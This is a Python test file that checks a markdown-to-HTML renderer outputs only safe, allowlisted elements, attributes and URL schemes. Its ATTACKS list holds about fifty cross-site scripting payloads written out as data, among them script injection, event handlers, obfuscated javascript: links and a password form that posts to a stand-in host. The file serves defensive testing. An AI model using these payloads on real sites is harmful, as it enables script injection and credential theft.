"""What people write becomes safe HTML."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from factcheck.prose.markdown import to_html

ELEMENTS = {
    "p", "br", "strong", "em", "a", "ul", "ol", "li", "blockquote", "code", "pre", "h3", "h4", "hr",
    "table", "thead", "tbody", "tr", "th", "td", "sup",
}  # fmt: skip
ATTRIBUTES = {("a", "href"), ("a", "class"), ("a", "rel"), ("ol", "start")}

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<div hx-get='/desk/' hx-trigger='load'>x</div>",
    "<p data-hx-get='/desk/' data-quote='x' id='x' name='x'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x\" onerror=\"alert(1)](x)",
    "[x](https://evil.example 'x\" onmouseover=\"alert(1)')",
    "[x](https://evil.example/\"onmouseover=\"alert(1))",
    "```js\" onclick=\"alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "[1]<script>alert(1)</script>[2]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x [1] onclick=alert(1)>",
    "[<script>alert(1)</script>](x)",
    "[x](https://evil.example/[1]onclick=alert(1))",
    "<a class='reference' href='#source-1'>",
)  # fmt: skip


class Parsed(HTMLParser):
    """The elements and attributes that a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def error(self, message: str) -> None:
        raise AssertionError(message)


def is_safe(html: str) -> bool:
    parsed = Parsed(html)
    links = [value for _tag, name, value in parsed.attributes if name == "href"]
    return (
        set(parsed.elements) <= ELEMENTS
        and {(tag, name) for tag, name, _value in parsed.attributes} <= ATTRIBUTES
        and {urlsplit(link).scheme for link in links} <= {"", "http", "https", "mailto"}
        and {value for _tag, name, value in parsed.attributes if name == "class"} <= {"reference"}
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_comes_through(attack: str) -> None:
    assert is_safe(to_html(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_comes_through_in_the_middle_of_a_text(attack: str) -> None:
    assert is_safe(to_html(f"A *word* {attack} [1] **and\n\n> - {attack}\n\nmore"))


pieces = st.one_of(
    st.text(max_size=8),
    st.sampled_from([*ATTACKS, *"[]()<>!`*_#|\\\n\"'&:/", "javascript:", "[1]", "](", "http://", "<a ", "onx=", "```", "\n\n"]),
)  # fmt: skip


@given(st.lists(pieces, max_size=12).map("".join))
def test_whatever_is_written_only_known_elements_attributes_and_schemes_come_out(markdown: str) -> None:
    html = to_html(markdown)
    assert is_safe(html)
    assert "<script" not in html.lower()


@given(st.lists(pieces, max_size=12).map("".join))
def test_the_same_text_gives_the_same_html(markdown: str) -> None:
    assert to_html(markdown) == to_html(markdown)


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("One *two* **three**", "<p>One <em>two</em> <strong>three</strong></p>\n"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>\n'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("a & b < c", "<p>a &amp; b &lt; c</p>\n"),
        ("", ""),
    ],
)
def test_markdown_is_commonmark(markdown: str, html: str) -> None:
    assert to_html(markdown) == html


@pytest.mark.parametrize("level", range(1, 7))
def test_headings_begin_at_the_third_level(level: int) -> None:
    assert set(re.findall(r"<(h\d)", to_html(f"{'#' * level} Heading"))) <= {"h3", "h4"}


def test_a_heading_keeps_its_words() -> None:
    assert to_html("# Heading") == "<h3>Heading</h3>\n"


def test_a_picture_is_told_by_its_words() -> None:
    assert to_html("![The *old* harbour](https://port.example/harbour.png)") == "<p>The *old* harbour</p>\n"


def test_a_link_leaves_without_a_recommendation_and_without_our_window() -> None:
    assert to_html("[register](https://port.example/)") == (
        '<p><a href="https://port.example/" rel="nofollow noopener">register</a></p>\n'
    )


def test_a_reference_leads_to_its_source() -> None:
    assert 'href="#source-2"' in to_html("The register lists it [2].")


def test_several_references_stand_side_by_side() -> None:
    assert re.findall(r'href="#(source-\d+)"', to_html("So it is [1][3] and [2], [12].")) == [
        "source-1",
        "source-3",
        "source-2",
        "source-12",
    ]


@pytest.mark.parametrize(
    "markdown",
    [
        "`[1]`",
        "    [1]",
        "```\n[1]\n```",
        "[1](https://port.example/)",
        "[see [1]](https://port.example/)",
        "[x]",
        "[1234]",
        "[١]",
    ],
)
def test_what_only_looks_like_a_reference_is_none(markdown: str) -> None:
    assert "#source-" not in to_html(markdown)
